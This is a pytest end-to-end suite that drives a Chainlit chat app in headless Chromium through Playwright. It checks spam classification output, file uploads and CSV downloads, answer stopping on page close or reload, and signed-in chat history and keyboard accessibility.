"""End to end: a real ``chainlit run chat_app/app.py`` on a free port with the real embedded model,
driven through Debian's Chromium (headless) with Python Playwright. Each profile gets a message and
the rendered answer is checked; screenshots and timings go to ``test-artifacts/e2e/``.

Needs ``/usr/bin/chromium`` (``apt-get install chromium``); skipped with a reason otherwise. Runs on the
adapters as they are: untrained ones answer through the base model, trained ones through the adapter.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import ROOT

pytestmark = [pytest.mark.integration, pytest.mark.e2e]

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run"]
ARTIFACTS = ROOT / "test-artifacts" / "e2e"
MODEL_READY_TIMEOUT = 420  # the first start converts the embedded model (about 30 s; more on a busy CI)
ANSWER_TIMEOUT = 120
RECONNECT_GRACE_S = 10  # chat_app.app's: how long an answer waits for its closed page to reconnect
SECRET = "zebra-4417"  # marks message text: it must never reach the server log

if not Path(CHROMIUM).is_file():
    pytest.skip(f"{CHROMIUM} not found: the browser test needs Debian's chromium package "
                "(`apt-get install -y chromium`)", allow_module_level=True)
sync_api = pytest.importorskip("playwright.sync_api", reason="the browser test needs `pip install playwright`")

TIMINGS: dict[str, float] = {}


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Server:
    """``chainlit run chat_app/app.py --headless`` in its own process group, stopped by its pid."""

    def __init__(self, tmp: Path, env: dict[str, str] | None = None, name: str = "server",
                 own_root: bool = False):
        """``own_root``: run from a copy of the app root in ``tmp`` (its config; ``public/`` linked),
        where the project's chainlit.md is absent: the readme the app serves must not need it."""
        self.port = free_port()
        cwd = ROOT
        if own_root:
            cwd = tmp / "app-root"
            (cwd / ".chainlit").mkdir(parents=True, exist_ok=True)
            shutil.copy(ROOT / ".chainlit" / "config.toml", cwd / ".chainlit" / "config.toml")
            (cwd / "public").symlink_to(ROOT / "public")
        self.url = f"http://127.0.0.1:{self.port}"
        self.log_path = ARTIFACTS / f"{name}.log"
        self.database = tmp / "history.sqlite3"
        environment = {**os.environ, "ADAPTERLAB_DATABASE_URL": f"sqlite+aiosqlite:///{self.database}",
                       "ADAPTERLAB_DTYPE": "auto",  # what a user gets, not the unit tests' float32
                       **(env or {})}
        self.log = open(self.log_path, "w")
        self.started = time.perf_counter()
        self.process = subprocess.Popen(
            [sys.executable, "-m", "chainlit", "run", str(ROOT / "chat_app" / "app.py"), "--headless",
             "--host", "127.0.0.1", "--port", str(self.port)], cwd=cwd, env=environment, stdout=self.log, stderr=subprocess.STDOUT,
            start_new_session=True)

    def wait_healthy(self, timeout: float = 120) -> float:
        import urllib.request

        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if self.process.poll() is not None:
                raise AssertionError(f"chainlit exited with {self.process.returncode}:\n{self.log_text()[-3000:]}")
            try:
                with urllib.request.urlopen(self.url + "/health", timeout=2) as response:
                    if response.status == 200:
                        return time.perf_counter() - self.started
            except OSError:
                time.sleep(0.2)
        raise AssertionError(f"chainlit did not answer within {timeout} s:\n{self.log_text()[-3000:]}")

    def log_text(self) -> str:
        self.log.flush()
        return self.log_path.read_text(errors="replace")

    def stop(self) -> None:
        if self.process.poll() is None:
            os.killpg(self.process.pid, signal.SIGTERM)  # the group this test started, by its id
            try:
                self.process.wait(timeout=20)
            except subprocess.TimeoutExpired:
                os.killpg(self.process.pid, signal.SIGKILL)
                self.process.wait()
        self.log.close()


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    srv = Server(tmp_path_factory.mktemp("e2e"))
    TIMINGS["command_to_health_s"] = srv.wait_healthy()
    yield srv
    srv.stop()
    (ARTIFACTS / "timings.json").write_text(json.dumps(TIMINGS, indent=2) + "\n")


@pytest.fixture(scope="module")
def browser():
    with sync_api.sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


OUTSIDE: list[str] = []


def new_page(browser, server):
    context = browser.new_context(viewport={"width": 1400, "height": 1000}, accept_downloads=True)
    page = context.new_page()
    host = f"127.0.0.1:{server.port}"
    page.on("request", lambda r: None if host in r.url or r.url.startswith(("data:", "blob:")) else OUTSIDE.append(r.url))
    page.set_default_timeout(30_000)
    return page


def open_app(page, server):
    page.goto(server.url)
    page.wait_for_selector("#chat-input")


def wait_model_ready(page, server):
    """Wait for the status panel's "Model ready"; on a timeout, the failure shows every thread's
    stack in the server (the app dumps them on SIGUSR1), to tell a slow load from a stuck one."""
    try:
        page.wait_for_selector("text=Model ready", timeout=MODEL_READY_TIMEOUT * 1000)
    except sync_api.TimeoutError:
        os.kill(server.process.pid, signal.SIGUSR1)
        time.sleep(2)
        raise AssertionError(f"no 'Model ready' within {MODEL_READY_TIMEOUT} s; server log with thread "
                             f"stacks:\n{server.log_text()[-6000:]}") from None


def choose_profile(page, name: str) -> None:
    page.click("#chat-profiles")
    page.click(f'[data-test="select-item:{name}"]')
    confirm = page.get_by_role("button", name="Confirm")
    try:
        confirm.wait_for(timeout=1500)
        confirm.click()
    except sync_api.TimeoutError:
        pass  # no confirmation when the chat is still empty
    page.wait_for_selector(f"#chat-profiles:has-text('{name}')")
    page.wait_for_selector("#starters")


def set_max_new_tokens(page, value: int) -> None:
    """Settings panel: move the "Max new tokens" slider with the keyboard (16 at Home, steps of 16)."""
    page.click("#chat-settings-open-modal")
    thumb = page.get_by_role("slider", name="Max new tokens", exact=True)  # named by public/adapterlab.js
    thumb.focus()
    thumb.press("Home")
    for _ in range(value // 16 - 1):
        thumb.press("ArrowRight")
    assert thumb.get_attribute("aria-valuenow") == str(value)


def send(page, text: str) -> None:
    page.fill("#chat-input", text)
    page.click("#chat-submit")


def answers(page):
    return page.locator("[data-step-type=assistant_message]")


def wait_idle(page, timeout: float = ANSWER_TIMEOUT) -> None:
    page.wait_for_timeout(300)
    page.wait_for_selector("#stop-button", state="detached", timeout=timeout * 1000)


def ask_and_wait_for_words(page, question: str):
    """Send ``question`` and return the answer's element once a few words of it have streamed in
    (a Medical Q&A answer runs up to 256 new tokens: still streaming after this)."""
    send(page, question)
    answer = answers(page).first
    answer.wait_for(timeout=ANSWER_TIMEOUT * 1000)
    page.wait_for_function("() => document.querySelector('[data-step-type=assistant_message]')"
                           ".innerText.split(' ').length > 4", timeout=ANSWER_TIMEOUT * 1000)
    return answer


def shot(page, name: str) -> None:
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)


# --- the tests ---------------------------------------------------------------------------------

def test_the_page_is_usable_while_the_model_loads(server, browser):
    page = new_page(browser, server)
    open_app(page, server)
    TIMINGS["command_to_usable_page_s"] = time.perf_counter() - server.started
    status = page.locator("#side-view-content").get_by_text(re.compile(r"Loading the model…|Model ready \("))
    status.wait_for()
    TIMINGS["page_showed_loading_state"] = float("Loading the model" in status.inner_text())
    assert page.locator("#starters button").count() >= 2  # starters usable at once
    shot(page, "01-loading-or-ready")
    wait_model_ready(page, server)
    TIMINGS["command_to_model_ready_s"] = time.perf_counter() - server.started
    assert re.search(r"adapterlab: model ready after \d+\.\d s", server.log_text())
    shot(page, "02-chat-start")
    page.click("#readme-button")  # chainlit.md, generated at start-up from the adapters' metrics.json
    readme = page.get_by_role("dialog")
    readme.get_by_text("Nothing here is for clinical decisions").wait_for()
    text = readme.inner_text()
    for title in ("Spam check", "Medical Q&A", "Oncology extraction"):
        assert title in text
    assert sum(text.count(state) for state in ("not trained yet", "not evaluated yet", "Headline metrics")) == 3
    page.wait_for_timeout(500)  # the dialog's fade-in
    shot(page, "02b-readme")
    page.context.close()


def test_chat_profile_answers_with_the_base_model(server, browser, tmp_path):
    page = new_page(browser, server)
    open_app(page, server)
    wait_model_ready(page, server)
    # a file sent with the question: said to be unread here, and the question answered (it was not)
    notes = tmp_path / "notes.txt"
    notes.write_text("a file the chat does not read\n", encoding="utf-8")
    page.set_input_files("#upload-button-input", str(notes))
    page.wait_for_selector("#attachments :text('notes.txt')")
    send(page, f"Say hello to {SECRET} in one short sentence.")
    page.wait_for_selector("text=/the file was not read, and your message is answered below/",
                           timeout=ANSWER_TIMEOUT * 1000)
    page.wait_for_function("() => document.querySelectorAll('[data-step-type=assistant_message]').length >= 2",
                           timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    text = answers(page).last.inner_text()
    assert "base model (no adapter)" in text and "prompt tokens" in text
    assert len(text.split("---")[0].strip()) > 0
    shot(page, "03-chat")
    page.context.close()


def test_spam_check_shows_label_and_probabilities_and_long_input(server, browser):
    page = new_page(browser, server)
    refused = []  # the page asks an avatar for each step's name; Chainlit refuses some names with 400
    page.on("response", lambda r: refused.append(r.url) if "/avatars/" in r.url and r.status >= 400 else None)
    open_app(page, server)
    choose_profile(page, "Spam check")
    page.get_by_text("Prize scam").click()
    answers(page).first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    message = answers(page).last
    text = message.inner_text()
    assert re.search(r"^(SPAM|HAM) · (p\(spam\) [<>]?\d+\.\d% [≥<] threshold )?[<>]?\d+\.\d%", text), text
    cells = [c.inner_text() for c in message.locator("table td").all()]
    assert "ham" in cells[0] and "spam" in cells[3]
    probs = [float(c.strip("<>%")) for c in cells if re.fullmatch(r"[<>]?\d+\.\d%", c)]
    assert len(probs) == 2 and abs(sum(probs) - 100) < 0.2
    assert re.search(r"total \d+\.\d+ s · \d+ prompt tokens", text), text  # as a streamed answer's footer says
    assert page.locator("text=/Used spam - classify/").count() == 1  # the LangChain chain step is shown
    assert refused == []
    shot(page, "04-spam-check")
    # the user's own bubble shows the text as typed: its markdown read "EGFR:negative" as a directive
    # and showed "EGFR" (Chainlit issue #1930)
    typed = "Dx:NSCLC adenocarcinoma, stage IV. EGFR:negative. Plan:pembrolizumab. Mets:bone, liver. 2*3*4"
    send(page, typed)
    page.wait_for_function("() => document.querySelectorAll('[data-step-type=assistant_message]').length >= 2",
                           timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    assert page.locator("[data-step-type=user_message]").last.inner_text().strip() == typed
    # a 100 kB message: answered, and the user is told only its start and end were read
    send(page, ("WIN a free prize " + SECRET + " call now! ") * 2800)
    page.wait_for_function("() => document.querySelectorAll('[data-step-type=assistant_message]').length >= 3",
                           timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    assert "only its start and its end were read" in answers(page).last.inner_text()
    page.context.close()


def test_a_file_attached_as_the_profile_changes_is_kept(server, browser, tmp_path):
    """Another profile is a new Chainlit session, created when the page's socket reconnects; a file
    attached the moment the header shows the new profile was uploaded for a session the server did
    not know yet ("Failed to upload …: Session not found") and lost."""
    page = new_page(browser, server)
    open_app(page, server)
    wait_model_ready(page, server)
    notes = tmp_path / "two-texts.txt"
    notes.write_text("Are we still on for lunch?\nWIN a FREE cruise, reply YES now\n", encoding="utf-8")
    page.click("#chat-profiles")
    page.click('[data-test="select-item:Spam check"]')
    page.wait_for_selector("#chat-profiles:has-text('Spam check')")
    with page.expect_response(lambda r: r.request.method == "POST" and "/project/file" in r.url) as upload:
        page.set_input_files("#upload-button-input", str(notes))  # at once: the new session may not exist yet
    assert upload.value.status == 200, upload.value.text()
    page.wait_for_selector("#attachments :text('two-texts.txt')")
    page.click("#chat-submit")
    page.wait_for_selector("h3:has-text('2 texts from')", timeout=ANSWER_TIMEOUT * 1000)
    page.context.close()


def test_spam_batch_upload_gives_a_table_and_a_csv_and_bad_files_a_message(server, browser, tmp_path):
    page = new_page(browser, server)
    open_app(page, server)
    choose_profile(page, "Spam check")
    good = tmp_path / "messages.csv"
    good.write_text("id,text\n1,Are we still meeting for lunch today?\n2,WINNER! Claim your FREE prize: "
                    "text WIN to 80086 now\n3,Reminder:call the clinic tomorrow, note:urgent\n", encoding="utf-8")
    page.set_input_files("#upload-button-input", str(good))
    page.wait_for_selector("#attachments :text('messages.csv')")
    page.fill("#chat-input", "please check these")  # typed beside a file: said to be unused
    page.click("#chat-submit")
    page.wait_for_selector("h3:has-text('3 texts from')", timeout=ANSWER_TIMEOUT * 1000)
    page.wait_for_selector("text=the text you typed was not")
    wait_idle(page)
    message = answers(page).last
    assert message.locator("table").count() == 1  # one table: no second copy of it in another format
    assert message.locator("table tbody tr").count() == 3
    # shown as it was (less invisible word joiners): "note:urgent" had been read as a directive and dropped
    shown = message.locator("table tbody tr").nth(2).locator("td").nth(1).inner_text().replace("\u2060", "")
    assert shown == "Reminder:call the clinic tomorrow, note:urgent", shown
    link = page.locator('a.inline-file[download="messages-spam-results.csv"]')
    response = page.request.get(link.get_attribute("href"))
    assert response.ok
    rows = list(csv.reader(io.StringIO(response.body().decode("utf-8-sig"))))
    # each result with its row in the file and the file's other columns, to join it back
    assert rows[0] == ["row", "id", "text", "label", "p_ham", "p_spam", "truncated"] and len(rows) == 4
    assert [r[:2] for r in rows[1:]] == [["2", "1"], ["3", "2"], ["4", "3"]]
    assert all(r[3] in ("ham", "spam") and abs(float(r[4]) + float(r[5]) - 1) < 1e-4 for r in rows[1:])
    shot(page, "05-spam-upload")
    windows = tmp_path / "notes.txt"  # saved by a Windows program: read, and said so
    windows.write_bytes("caf\xe9 cr\xe8me at 8 \u2013 see you".encode("cp1252"))
    nocol = tmp_path / "labels.csv"
    nocol.write_text("id,label\n1,ham\n", encoding="utf-8")
    empty = tmp_path / "empty.txt"
    empty.write_bytes(b"")  # Chainlit itself refused to store a 0-byte file ("Upload failed")
    page.set_input_files("#upload-button-input", [str(windows), str(nocol), str(empty)])
    page.wait_for_selector("#attachments :text('empty.txt')")
    page.click("#chat-submit")
    page.wait_for_selector("text=so it was read as Windows-1252", timeout=ANSWER_TIMEOUT * 1000)
    page.wait_for_selector("td:has-text('café crème at 8 – see you')")
    page.wait_for_selector("text=has no text column", timeout=ANSWER_TIMEOUT * 1000)
    page.wait_for_selector("text=holds no text to process", timeout=ANSWER_TIMEOUT * 1000)
    shot(page, "06-bad-uploads")
    # a file with the reference labels: the summary says how the answers agree, each row in the CSV too
    gold = tmp_path / "gold.csv"
    gold.write_text("id,label,text\n1,ham,Are we still meeting for lunch today?\n2,spam,WINNER! Claim your FREE "
                    "prize: text WIN to 80086 now\n3,maybe,See you at the lecture tomorrow\n", encoding="utf-8")
    wait_idle(page)
    page.set_input_files("#upload-button-input", str(gold))
    page.wait_for_selector("#attachments :text('gold.csv')")
    page.click("#chat-submit")
    summary = answers(page).filter(has_text="Accuracy against the file's label column")
    summary.wait_for(timeout=ANSWER_TIMEOUT * 1000)
    text = summary.inner_text()
    assert re.search(r"Accuracy against the file's label column: \d+\.\d%\s+\([0-2] of 2 rows agree", text), text
    assert "Row 4 was not compared: its label column holds a label that is not one of ham, spam (maybe)" in text, text
    link = page.locator('a.inline-file[download="gold-spam-results.csv"]')
    rows = list(csv.reader(io.StringIO(page.request.get(link.get_attribute("href")).body().decode("utf-8-sig"))))
    assert rows[0] == ["row", "id", "file_label", "text", "label", "p_ham", "p_spam", "truncated",
                       "agrees_with_reference"]
    assert [r[-1] for r in rows[1:]] == [str(r[4] == r[2]) for r in rows[1:3]] + [""]
    shot(page, "06b-upload-with-labels")
    page.context.close()


def test_closing_the_page_stops_its_answer(server, browser):
    page = new_page(browser, server)
    open_app(page, server)
    wait_model_ready(page, server)
    choose_profile(page, "Medical Q&A")
    # an answer that outlasts the grace time: ~600 tokens, ~19 s on the 2-core CPU
    set_max_new_tokens(page, 1024)
    page.get_by_role("button", name="Confirm").click()
    ask_and_wait_for_words(page, "What causes glaucoma? (page closed)")
    page.context.close()
    # the answer ends as stopped, once the page has not come back, in its thread; not "by you"
    stored_answer(server.database, "stopped: the page was closed", RECONNECT_GRACE_S + 15,
                  thread_of="%(page closed)%")
    # and so do its steps: they had said "stopped by you" (LangChain calls the tracer in tasks of its own)
    assert stored_step_outputs(server.database, "runtime.generate", "%(page closed)%") == ["stopped: the page was closed"]


def test_leaving_a_chat_stops_its_answer_and_says_why(server, browser):
    page = new_page(browser, server)
    open_app(page, server)
    wait_model_ready(page, server)
    choose_profile(page, "Medical Q&A")
    ask_and_wait_for_words(page, "What causes cataracts? (chat left)")
    choose_profile(page, "Chat")  # another profile: a new chat, and the answer's own is left
    stored_answer(server.database, "stopped: the chat was left", 30, thread_of="%(chat left)%")
    assert stored_step_outputs(server.database, "runtime.generate", "%(chat left)%") == ["stopped: the chat was left"]
    # the steps show what the chain received: a streamed run's input had shown as {"input": ""}. The
    # step is stored with that placeholder when it starts; its update (the run's end) is written later
    deadline = time.monotonic() + 15
    while True:
        (shown,) = stored_step_values(server.database, "input", "medquad - generate - fine-tuned", "%(chat left)%")
        if json.loads(shown) != {"input": ""} or time.monotonic() > deadline:
            break
        time.sleep(0.25)
    assert json.loads(shown) == {"history": [], "text": "What causes cataracts? (chat left)"}, shown
    page.context.close()


def test_an_answer_goes_on_when_its_page_reconnects_after_a_blip(server, browser):
    page = new_page(browser, server)
    # keep the page's WebSockets at hand, to drop them as a network blip would; socket.io reconnects
    page.add_init_script("""window.__sockets = []; window.WebSocket = class extends window.WebSocket {
        constructor(...args) { super(...args); window.__sockets.push(this); } };""")
    open_app(page, server)
    wait_model_ready(page, server)
    choose_profile(page, "Medical Q&A")
    ask_and_wait_for_words(page, "What causes glaucoma? (blip)")
    page.evaluate("window.__sockets.filter(s => s.readyState === 1).forEach(s => s.close())")
    page.wait_for_function("window.__sockets.filter(s => s.readyState === 1).length > 0")  # reconnected
    page.wait_for_selector("#stop-button")  # the answer goes on, and can still be stopped
    answer = stored_answer(server.database, "prompt tokens", ANSWER_TIMEOUT, thread_of="%(blip)%")
    assert "stopped by you" not in answer, answer
    assert "connection closed during an answer" in server.log_text()  # the blip reached the server
    page.context.close()


def status_panel(page):
    """The status panel's text beside the chat (Chainlit's element side view)."""
    return page.locator("#side-view-content").get_by_text("Model ready")


def test_the_status_panel_stays_when_a_file_is_sent(server, browser, tmp_path):
    """Chainlit's page closed the panel beside the chat whenever the page's elements changed without
    one shown beside it: a file sent with a message did that, and the model's state and the
    profile's notices were gone, with no way to bring them back."""
    page = new_page(browser, server)
    open_app(page, server)
    wait_model_ready(page, server)
    choose_profile(page, "Spam check")
    status_panel(page).wait_for()
    upload = tmp_path / "lunch.csv"
    upload.write_text("text\nAre we still meeting for lunch today?\nWIN a FREE prize now\n", encoding="utf-8")
    page.set_input_files("#upload-button-input", str(upload))
    page.wait_for_selector("#attachments :text('lunch.csv')")
    page.click("#chat-submit")
    page.wait_for_selector("h3:has-text('2 texts from')", timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    page.wait_for_timeout(500)
    assert status_panel(page).is_visible(), "the status panel closed when the file was sent"
    shot(page, "05b-status-panel-after-upload")
    page.context.close()


LOGIN = {"ADAPTERLAB_APP_USER": "ana", "ADAPTERLAB_APP_PASSWORD": "s3cret-pw", "CHAINLIT_AUTH_SECRET": "x" * 64}


@pytest.fixture(scope="module")
def login_server(tmp_path_factory):
    """The real model with password login (so with the history): a chat moves to its own address
    at its first message, and a reload resumes it as another session."""
    ARTIFACTS.mkdir(parents=True, exist_ok=True)  # (run alone with -k, no other fixture made it)
    srv = Server(tmp_path_factory.mktemp("e2e-login"), LOGIN, name="server-login-real-model")
    srv.wait_healthy()
    yield srv
    srv.stop()


def test_signed_in_the_status_panel_stays_at_a_chats_address_and_when_resumed(login_server, browser):
    """Signed in, a chat's first message moves the page to /thread/<id>, which rebuilt the chat and
    closed the status panel; a chat reopened from its address opened without it."""
    page = new_page(browser, login_server)
    sign_in(page, login_server)
    wait_model_ready(page, login_server)
    choose_profile(page, "Spam check")
    status_panel(page).wait_for()
    send(page, "Are we still meeting for lunch today?")
    page.wait_for_url(re.compile(r"/thread/[0-9a-f-]+$"))
    answers(page).filter(has_text="probability").first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    page.wait_for_timeout(500)
    assert status_panel(page).is_visible(), "the status panel closed when the chat moved to its address"
    page.reload()
    answers(page).filter(has_text="probability").first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
    status_panel(page).wait_for(timeout=10_000)  # a resumed chat shows it too
    page.context.close()


def test_signed_in_new_chat_says_the_chat_stays_in_the_history(login_server, browser):
    """Chainlit's "New chat" asked "This will clear your current chat history. Are you sure?", but
    signed in the chat stays in the history (only a running answer is stopped)."""
    page = new_page(browser, login_server)
    sign_in(page, login_server)
    choose_profile(page, "Spam check")
    send(page, "Is the bakery open on Sunday? (new chat)")
    page.wait_for_url(re.compile(r"/thread/[0-9a-f-]+$"))
    answers(page).filter(has_text="probability").first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    page.get_by_role("button", name="New chat", exact=True).last.click()  # the header's
    dialog = page.get_by_role("dialog")
    assert "The current one stays in your chat history" in dialog.inner_text()
    assert "clear" not in dialog.inner_text()
    dialog.get_by_role("button", name="Confirm").click()
    page.wait_for_url(login_server.url + "/")
    page.get_by_role("button", name="Show or hide the chat history").last.click()
    page.locator("#thread-history a").filter(has_text="Is the bakery open on Sunday?").first.wait_for()
    page.context.close()


def test_signed_in_the_history_works_from_the_keyboard(login_server, browser):
    """A history entry's "Chat options" (rename, delete) was a <div> that Tab never reached, shown on
    hover only; and the closed history sidebar, off the left edge, stayed in the Tab order."""
    page = new_page(browser, login_server)
    sign_in(page, login_server)
    choose_profile(page, "Spam check")
    send(page, "Can you pick up the parcel? (keyboard)")
    page.wait_for_url(re.compile(r"/thread/[0-9a-f-]+$"))
    answers(page).filter(has_text="probability").first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    focused = ("() => { const e = document.activeElement, r = e.getBoundingClientRect();"
               " return {id: e.id, name: e.getAttribute('aria-label') || e.textContent.trim().slice(0, 40),"
               " right: r.right, opacity: getComputedStyle(e).opacity}; }")
    history = page.locator("#thread-history")
    if history.evaluate("e => e.getBoundingClientRect().right > 0"):  # open: closed for the first check
        page.get_by_role("button", name="Show or hide the chat history").first.click()
    page.wait_for_function("() => document.querySelector('#thread-history').getBoundingClientRect().right <= 0")
    page.wait_for_timeout(400)  # the slide (200 ms) has ended
    page.focus("#chat-input")
    for _ in range(15):  # around the whole page: nothing focused off the left edge
        page.keyboard.press("Tab")
        where = page.evaluate(focused)
        assert where["right"] > 0, f"Tab focused {where} in the closed history sidebar"

    page.get_by_role("button", name="Show or hide the chat history").last.click()
    history.locator("a").filter(has_text="Can you pick up the parcel?").first.wait_for()
    page.get_by_role("button", name="Show or hide the chat history").first.focus()
    for _ in range(12):
        page.keyboard.press("Tab")
        where = page.evaluate(focused)
        if where["id"] == "thread-options":
            break
    assert where["id"] == "thread-options" and where["name"] == "Chat options", where
    assert where["opacity"] == "1"  # shown while focused (it showed on hover only)
    page.keyboard.press("Enter")
    page.wait_for_function("() => document.activeElement.id === 'rename-thread'")  # the menu's first item
    page.keyboard.press("Enter")
    dialog = page.get_by_role("dialog")
    dialog.get_by_text("Rename Chat", exact=True).wait_for()
    page.wait_for_function("() => document.activeElement.id === 'name'")
    page.keyboard.press("Control+A")
    page.keyboard.type("Errand")
    page.keyboard.press("Enter")
    dialog.wait_for(state="detached")
    history.locator("a").filter(has_text="Errand").first.wait_for()
    # and Delete, opened with Space
    entry = history.locator("li").filter(has_text="Errand").first
    entry.locator("a").focus()
    assert entry.locator("#thread-options").evaluate("e => getComputedStyle(e).opacity") == "1"  # its entry has focus
    entry.locator("#thread-options").focus()
    page.keyboard.press(" ")
    page.wait_for_function("() => document.activeElement.id === 'rename-thread'")
    page.keyboard.press("ArrowDown")
    page.wait_for_function("() => document.activeElement.id === 'delete-thread'")
    page.keyboard.press("Enter")
    page.get_by_role("alertdialog").get_by_role("button", name="Confirm").click()
    entry.wait_for(state="detached")
    page.context.close()


def test_signed_in_on_a_phone_a_chat_moves_to_its_address_and_a_reload_reopens_it(login_server, browser):
    """Chainlit moves a signed-in chat to /thread/<id> from its history sidebar, which a phone mounts
    only when its sheet is opened: on a phone the address stayed "/" and a reload opened a blank chat."""
    context = browser.new_context(**PHONE)
    page = context.new_page()
    page.set_default_timeout(30_000)
    sign_in(page, login_server)  # (a phone shows no "Model ready" once the model is loaded: the answer waits)
    choose_profile(page, "Spam check")
    send(page, "Shall we meet at the station at six?")
    answers(page).filter(has_text="probability").first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
    page.wait_for_url(re.compile(r"/thread/[0-9a-f-]+$"), timeout=10_000)
    page.reload()
    page.get_by_text("Shall we meet at the station at six?").first.wait_for(timeout=30_000)
    answers(page).filter(has_text="probability").first.wait_for(timeout=30_000)
    page.wait_for_selector("#chat-profiles:has-text('Spam')")
    # Chainlit's page connects twice as it opens, and a reloaded page's first Stop was once lost
    # between them (CI); this message got no answer in 2 of 13 runs made beside a CI run (0 of 6
    # alone, sent at once): let the page settle first
    page.wait_for_timeout(2000)
    send(page, "And bring the tickets")  # the reopened chat goes on, in its profile
    answers(page).filter(has_text="probability").nth(1).wait_for(timeout=ANSWER_TIMEOUT * 1000)
    context.close()


def test_signed_in_a_reload_while_an_answer_streams_shows_it_and_keeps_it(login_server, browser):
    """A reload is a new session that resumes the chat: it showed the question and no answer, no
    Stop button, while the old session went on writing the answer for a page that was gone (and
    stopped it as "the page was closed" after RECONNECT_GRACE_S). The reloaded page shows the answer
    as it comes, can stop it, and its next question has it in its history.

    Both stories are asked for so that the answers are long (greedy, the shipped medquad adapter:
    324 and 914 tokens on this project's CPU machines): the first must outlast the grace time after
    the reload, the second the reload and the Stop. A medical question's answer ran ~110 tokens,
    and ended by itself before the Stop in 1 of 18 runs here."""
    page = new_page(browser, login_server)
    sign_in(page, login_server)
    wait_model_ready(page, login_server)
    choose_profile(page, "Medical Q&A")
    set_max_new_tokens(page, 1024)
    page.get_by_role("button", name="Confirm").click()
    ask_and_wait_for_words(page, "Write a very long story about a dragon who learns to fly, at least 3,000 words.")
    page.wait_for_url(re.compile(r"/thread/[0-9a-f-]+$"))
    page.reload()
    page.wait_for_selector("#stop-button", timeout=30_000)  # still being written, and can be stopped
    answer = answers(page).first
    answer.wait_for(timeout=10_000)
    shown = len(answer.inner_text())
    # it streams on this page (Chainlit's page connects twice as it opens, and the second resume
    # replaces the messages for a moment)
    page.wait_for_function("n => document.querySelector('[data-step-type=assistant_message]')?.innerText.length > n",
                           arg=shown + 20, timeout=ANSWER_TIMEOUT * 1000)
    shot(page, "08c-medical-qa-after-reload")
    wait_idle(page, timeout=2 * ANSWER_TIMEOUT)
    text = answers(page).first.inner_text()
    assert re.search(r"\d+ prompt tokens, \d+ generated", text) and "stopped" not in text, text
    assert page.get_by_text("Used medquad").count() >= 1  # the chain's step, as before the reload
    stored_answer(login_server.database, "prompt tokens", thread_of="%dragon who learns%")
    with sqlite3.connect(login_server.database) as db:
        stored = db.execute('SELECT "output", "metadata" FROM steps WHERE "type" = ? AND "threadId" IN (SELECT '
                            '"threadId" FROM steps WHERE "output" LIKE ?)',
                            ("assistant_message", "%dragon who learns%")).fetchall()
    assert len(stored) == 1 and "stopped" not in stored[0][0], stored  # once, complete
    said = json.loads(stored[0][1])["answer"]
    # the next question's prompt holds that answer: this page's conversation has it
    set_max_new_tokens(page, 16)
    page.get_by_role("dialog").get_by_role("switch", name="Show the rendered prompt").click()
    page.get_by_role("button", name="Confirm").click()
    send(page, "What was the dragon's name?")
    page.wait_for_selector("text=/Rendered prompt · \\d+ tokens/", timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    page.locator("text=/Rendered prompt · \\d+ tokens/").last.click()
    prompt = " ".join(page.locator("pre").last.inner_text().split())
    assert " ".join(said.split()[:12]) in prompt, prompt[-1500:]
    # the Stop button of a reloaded page stops the answer, which keeps what it had
    set_max_new_tokens(page, 1024)
    page.get_by_role("button", name="Confirm").click()
    send(page, "Now write a much longer story about a whale, at least 5,000 words.")
    page.wait_for_function("() => document.querySelectorAll('[data-step-type=assistant_message]')[2]?.innerText"
                           ".split(' ').length > 4", timeout=ANSWER_TIMEOUT * 1000)
    page.reload()
    page.wait_for_selector("#stop-button", timeout=30_000)
    answers(page).nth(2).wait_for(timeout=10_000)
    # Chainlit's page connects twice as it opens: a Stop sent on the first connection as it closes
    # can be lost, and a user presses Stop again. (The stopped answer had once vanished from the
    # page: the second connection had read the chat just before it was stored; fixed in
    # app._send_the_chat_again_if_it_changed.)
    stopped = answers(page).filter(has_text="stopped by you")
    for _ in range(3):
        written = answers(page).nth(2).inner_text()
        assert "stopped" in written or not re.search(r"\d+ prompt tokens, \d+ generated", written), \
            f"the answer ended by itself before the Stop; the test needs a question with a longer answer: {written}"
        if page.locator("#stop-button").is_visible():
            page.click("#stop-button")
        try:
            stopped.wait_for(timeout=10_000)
            break
        except sync_api.TimeoutError:
            continue
    stopped.wait_for(timeout=ANSWER_TIMEOUT * 1000)
    stored_answer(login_server.database, "stopped by you", thread_of="%dragon who learns%")
    page.context.close()


def test_stopping_a_batch_upload_keeps_the_texts_it_did(server, browser, tmp_path):
    page = new_page(browser, server)
    open_app(page, server)
    wait_model_ready(page, server)
    choose_profile(page, "Spam check")
    many = tmp_path / "many.txt"  # 32 messages a model call: the progress line moves, then Stop
    many.write_text("\n".join(f"Message {i}: are we still on for lunch?" for i in range(640)) + "\n", encoding="utf-8")
    page.set_input_files("#upload-button-input", str(many))
    page.wait_for_selector("#attachments :text('many.txt')")
    page.click("#chat-submit")
    # sent without text, its bubble names the file (it was empty; a reopened chat keeps no file)
    page.locator("[data-step-type=user_message] .message-content").filter(has_text="many.txt").wait_for()
